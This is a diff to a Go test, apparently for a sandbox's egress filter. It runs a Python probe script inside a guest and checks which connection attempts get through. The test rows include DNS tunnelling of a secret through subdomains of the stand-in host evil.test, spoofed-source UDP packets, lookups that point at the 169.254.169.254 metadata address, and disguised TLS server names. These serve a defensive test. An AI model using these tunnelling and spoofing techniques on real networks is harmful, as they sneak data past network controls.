@@ -15,23 +15,27 @@ import (
 	"github.com/pandastack/pandastack/internal/hostapi"
 )
 
-// attempts is a program for guests. Each line of its table is a name, a way and a target, and what is sent: bytes
-// in hexadecimal, in pieces that leave one after the other. It prints names with what came back: "here", "-" for
+// attempts is a program for guests. Each line of its table is a name, a way, a target, how many seconds to wait, and
+// what is sent: bytes in hexadecimal, in pieces that leave one after the other. It prints names with what came back: "here", "-" for
 // nothing, and addresses or texts for questions to the guest's resolver. All attempts go on at once, except
 // datagrams, which leave in their order.
 const attempts = `cat > /tmp/attempts.py <<'END'
 import socket, struct, sys, threading
-def tcp(target, pieces, family=socket.AF_INET):
+def tcp(target, patience, pieces, family=socket.AF_INET):
     host, port = target.rsplit(":", 1)
     s = socket.socket(family, socket.SOCK_STREAM)
-    s.settimeout(5)
+    s.settimeout(patience)
     s.connect((host, int(port)))
     s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
     for p in pieces:
         s.sendall(p)
         threading.Event().wait(0.05)
-    return s.recv(4).decode() or "-"
-def udp(target, pieces, source=None):
+    got = more = b"."
+    while more and b"here" not in got:
+        more = s.recv(4096)
+        got += more
+    return "here" if b"here" in got else "-"
+def udp(target, patience, pieces, source=None):
     host, port = target.rsplit(":", 1)
     s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
     if source:
@@ -39,13 +43,13 @@ def udp(target, pieces, source=None):
     for p in pieces:
         s.sendto(p, (host, int(port)))
     return "-"
-def dns(target, pieces, over=socket.SOCK_DGRAM):
+def dns(target, patience, pieces, over=socket.SOCK_DGRAM):
     name, kind = target.split("/")
     q = struct.pack(">HHHHHH", 77, 0x100, 1, 0, 0, 0)
     q += b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0" + struct.pack(">HH", int(kind), 1)
     server = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")][0]
     s = socket.socket(socket.AF_INET, over)
-    s.settimeout(5)
+    s.settimeout(30)
     s.connect((server, 53))
     s.sendall(q if over == socket.SOCK_DGRAM else struct.pack(">H", len(q)) + q)
     a = s.recv(4096)
@@ -55,13 +59,13 @@ def dns(target, pieces, over=socket.SOCK_DGRAM):
     return "here" if int(kind) != 1 else socket.inet_ntoa(a[-4:])
 ways = {
     "tcp": tcp, "udp": udp, "dns": dns,
-    "tcp6": lambda t, p: tcp(t, p, socket.AF_INET6),
-    "dnstcp": lambda t, p: dns(t, p, socket.SOCK_STREAM),
-    "spoof": lambda t, p: udp(t, p, "198.100.1.77"),
+    "tcp6": lambda t, w, p: tcp(t, w, p, socket.AF_INET6),
+    "dnstcp": lambda t, w, p: dns(t, w, p, socket.SOCK_STREAM),
+    "spoof": lambda t, w, p: udp(t, w, p, "198.100.1.77"),
 }
-def attempt(name, way, target, sent):
+def attempt(name, way, target, patience, sent):
     try:
-        got = ways[way](target, [bytes.fromhex(p) for p in sent.split("|")])
+        got = ways[way](target, float(patience), [bytes.fromhex(p) for p in sent.split("|")])
     except OSError:
         got = "-"
     print(name, got, flush=True)
@@ -141,7 +145,6 @@ func always(host, neighbour string) []row {
 		{"six", "tcp6", "2606:2800::1:443", words("x"), "-"},
 		{"six-gateway", "tcp6", "fd00:1::1:7700", words("x"), "-"},
 		{"spoofed", "spoof", sharedSite + ":123", words("spoofed"), "-"},
-		{"inside-name", "dns", "inside.good.test/1", "", "-"},
 	}
 	for _, a := range closedSites {
 		rows = append(rows, row{"closed-" + a, "tcp", a + ":80", words("x"), "-"}, row{"closed-udp-" + a, "udp", a + ":123", words("closed " + a), "-"})
@@ -176,10 +179,12 @@ func TestAdversary(t *testing.T) {
 		{"open", hostapi.Egress{}, append([]row{
 			{"public", "tcp", sharedSite + ":80", words("x"), "here"},
 			{"any-name", "dns", "evil.test/1", "", sharedSite},
+			{"inside-name", "dns", "inside.good.test/1", "", "169.254.169.254"}, // which is closed
 		}, never...)},
 		{"listed", hostapi.Egress{Allow: []string{"10.0.0.0/8", "192.168.0.0/16", "169.254.0.0/16", "172.16.0.0/12", "100.64.0.0/10",
 			"198.18.0.0/15", "203.0.113.0/24", "198.100.1.2", "inside.good.test", sharedSite, b.GuestIP}, DenyOthers: true}, append([]row{
 			{"allowed", "tcp", sharedSite + ":80", words("x"), "here"},
+			{"inside-name", "dns", "inside.good.test/1", "", "-"},
 			{"not-listed", "tcp", otherSite + ":80", words("x"), "-"},
 		}, never...)},
 		{"names", hostapi.Egress{Allow: []string{"good.test", "*.wild.test", "inside.good.test"}, DenyOthers: true}, append([]row{
@@ -190,7 +195,8 @@ func TestAdversary(t *testing.T) {
 			{"tunnel-text", "dns", secret + ".evil.test/16", "", "-"},
 			{"tunnel-by-tcp", "dnstcp", secret + ".evil.test/1", "", "-"},
 			{"tunnel-null", "dns", secret + ".evil.test/10", "", "-"},
-			{"text-of-good", "dns", "good.test/16", "", "-"},
+			{"text-of-good", "dns", "good.test/16", "", "here"}, // whose owner is trusted
+			{"inside-name", "dns", "inside.good.test/1", "", "-"},
 			{"below-good", "dns", secret + ".good.test/1", "", "-"},
 			{"disguise", "dns", "good.test.evil.test/1", "", "-"},
 			{"foreign-resolver", "udp", otherSite + ":53", words("foreign resolver"), "-"},
@@ -202,7 +208,7 @@ func TestAdversary(t *testing.T) {
 			{"tls", "tcp", sharedSite + ":443", pieces(good), "here"},
 			{"tls-split", "tcp", sharedSite + ":443", pieces(good[:3], good[3:50], good[50:]), "here"},
 			{"http", "tcp", sharedSite + ":80", words("GET / HTTP/1.1\r\nHost: good.test\r\n\r\n"), "here"},
-			{"other-port", "tcp", sharedSite + ":7777", words("x"), "here"}, // of good.test, for a protocol without names
+			{"other-port", "tcp", sharedSite + ":7777", words("\x00\x01\x02\x03\x04\x05\x06\x07"), "here"}, // of good.test, for a protocol without names
 			{"spoofed-name", "tcp", sharedSite + ":443", pieces(evil), "-"},
 			{"spoofed-name-split", "tcp", sharedSite + ":443", pieces(evil[:6], evil[6:]), "-"},
 			{"spoofed-name-elsewhere", "tcp", sharedSite + ":8443", pieces(evil), "-"},
@@ -237,7 +243,7 @@ func TestAdversary(t *testing.T) {
 		t.Errorf("datagrams that left: %q, want the last alone", datagrams)
 	}
 	for _, q := range asked {
-		if !slices.Contains([]string{"good.test. A", "evil.test. A", "inside.good.test. A"}, strings.ToLower(q)) {
+		if !slices.Contains([]string{"good.test. a", "good.test. txt", "evil.test. a", "inside.good.test. a"}, strings.ToLower(q)) {
 			t.Errorf("the resolver was asked for %s", q)
 		}
 	}
@@ -252,7 +258,11 @@ func try(t *testing.T, l *lab, id hostapi.MachineID, phase string, rows []row) {
 		if sent == "" {
 			sent = "00"
 		}
-		fmt.Fprintln(&table, r.name, r.way, r.target, sent)
+		patience := 2 // seconds, for what must not happen
+		if r.want != "-" {
+			patience = 60
+		}
+		fmt.Fprintln(&table, r.name, r.way, r.target, patience, sent)
 	}
 	got := map[string]string{}
 	for line := range strings.Lines(l.run(t, id, attempts+" <<'END'\n"+table.String()+"END")) {
